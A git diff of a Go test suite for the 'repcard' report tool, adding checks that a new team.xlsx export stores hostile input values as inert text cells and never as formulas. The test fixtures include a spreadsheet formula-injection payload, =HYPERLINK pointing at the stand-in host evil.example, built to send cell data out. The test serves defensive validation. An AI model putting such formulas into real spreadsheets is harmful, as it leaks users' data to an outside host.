@@ -30,6 +30,7 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"github.com/repcard/repcard"
+	"github.com/repcard/repcard/teamxlsx"
 )
 
 // The hostile suite runs repcard as a process of its own (the test binary
@@ -1012,7 +1013,7 @@ func checkNames(t *testing.T, res hostileResult) {
 		rel = filepath.ToSlash(rel)
 		switch {
 		case rel == "config.yaml", strings.HasPrefix(rel, "inbox/"):
-		case rel == "out/"+period+"/team.pdf", rel == "out/"+period+"/metrics.json", rel == "out/"+period+"/data-issues.csv":
+		case rel == "out/"+period+"/team.pdf", rel == "out/"+period+"/team.xlsx", rel == "out/"+period+"/metrics.json", rel == "out/"+period+"/data-issues.csv":
 		case strings.HasPrefix(rel, "out/"+period+"/reps/") && slug.MatchString(strings.TrimPrefix(rel, "out/"+period+"/reps/")):
 		case strings.HasPrefix(rel, "out/"+period+"/managers/") && slug.MatchString(strings.TrimPrefix(rel, "out/"+period+"/managers/")):
 		default:
@@ -1100,6 +1101,32 @@ func checkInjection(t *testing.T, res hostileResult) {
 	for _, want := range []string{"\uFFFDTab sheet", "\uFFFDCR sheet", "'@Sheet"} {
 		if !slices.Contains(sheets, want) {
 			t.Errorf("data-issues.csv has no sheet %q; sheets: %q", want, sheets)
+		}
+	}
+	// In team.xlsx the same values are text cells, which a spreadsheet
+	// never evaluates: no quote, and no formula.
+	f, err := excelize.OpenFile(filepath.Join(res.out, "team.xlsx"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := f.GetRows(teamxlsx.SheetIssues)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var cells []string
+	for i, row := range rows {
+		for j, v := range row {
+			cells = append(cells, v)
+			ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
+			if fm, _ := f.GetCellFormula(teamxlsx.SheetIssues, ref); fm != "" {
+				t.Errorf("team.xlsx %s holds a formula %q", ref, fm)
+			}
+		}
+	}
+	for _, want := range []string{`=HYPERLINK("http://evil.example/?"&A1)`, "+1-555-0100", "=HYPERLINK(1).csv", "@Sheet"} {
+		if !slices.Contains(cells, want) {
+			t.Errorf("team.xlsx's data issues have no cell %q", want)
 		}
 	}
 }
